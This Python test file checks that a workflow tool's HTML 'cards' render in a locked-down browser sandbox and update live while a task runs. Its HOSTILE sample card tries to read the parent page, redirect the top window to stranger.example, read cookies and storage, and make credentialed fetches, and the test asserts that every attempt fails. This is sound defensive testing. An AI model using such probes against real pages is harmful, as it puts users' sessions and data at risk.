"""Cards in a real browser: a hostile one reaches nothing, and one of a running task is seen to change."""

from __future__ import annotations

import pytest

from support.cards import card_in
from support.cli import Script
from support.flows import LINEAR, flow_source
from support.recording import store_with

pytestmark = pytest.mark.long
HOSTILE = """<!doctype html><pre id="log"></pre><img src="http://stranger.example/x.png"><script>
const log = [];
function attempt(name, what) {
  try { what(); log.push(name + " worked"); } catch (error) { log.push(name + " failed"); }
}
if (top !== self) attempt("parent", () => parent.document.body.innerHTML);
if (top !== self) attempt("top", () => { top.location.href = "http://stranger.example/"; });
attempt("cookie", () => document.cookie.length.toString());
attempt("storage", () => localStorage.length);
attempt("opener", () => { if (!window.open("/runs")) throw 1; });
const asked = ["/runs", "/static/page.js", "http://stranger.example/"].map((url) =>
  fetch(url, { credentials: "include" }).then(() => log.push(url + " worked"), () => log.push(url + " failed")));
Promise.all(asked).then(() => {
  document.getElementById("log").textContent = log.concat("origin " + origin).join("\\n");
});
</script>"""


@pytest.mark.parametrize("alone", [False, True], ids=["in a frame", "in a tab"])
def test_a_hostile_card_reaches_nothing(visit, path, alone):
    """Neither its parent, nor our pages, nor another host, nor the cookie."""
    card_in(store_with(path, {"a": 1}), HOSTILE)
    seen = visit(path)
    seen.go("card/F/1/start/1/0" if alone else "task/F/1/start/1")
    frame = seen.page if alone else seen.page.frame_locator("iframe.card")
    frame.locator("#log", has_text="origin").wait_for()
    lines = frame.locator("#log").inner_text().splitlines()
    reached = {line for line in lines if line.endswith(" worked")}
    assert reached == set()
    assert "origin null" in lines
    assert seen.page.url.startswith(seen.home)
    seen.problems.clear()  # the browser has refused all of it, aloud


def test_a_card_changes_while_its_task_runs(visit, tmp_path):
    """The page shows the newest state within two seconds, and the last one at the end."""
    start = """
    @card(type="blank")
    from flowstore.cards import Markdown
    text = Markdown("state one")
    current.card.append(text)
    current.card.refresh()
    while not Path("go").exists(): time.sleep(0.05)
    text.update("state two")
    current.card.refresh()
    while not Path("end").exists(): time.sleep(0.05)
    text.update("state three")
    """
    script = Script(tmp_path, flow_source(LINEAR, start=start))
    with script.start("run") as process:
        while not (script.db.exists() and script.sql("select count(*) from cards") == [1]):
            pass
        seen = visit(script.db)
        seen.go("task/F/1/start/1")
        frame = seen.page.frame_locator("iframe.card")
        frame.get_by_text("state one").wait_for()
        (tmp_path / "go").touch()
        frame.get_by_text("state two").wait_for()
        seen.picture("task-with-card")
        (tmp_path / "end").touch()
        assert process.wait() == 0
        frame.get_by_text("state three").wait_for()
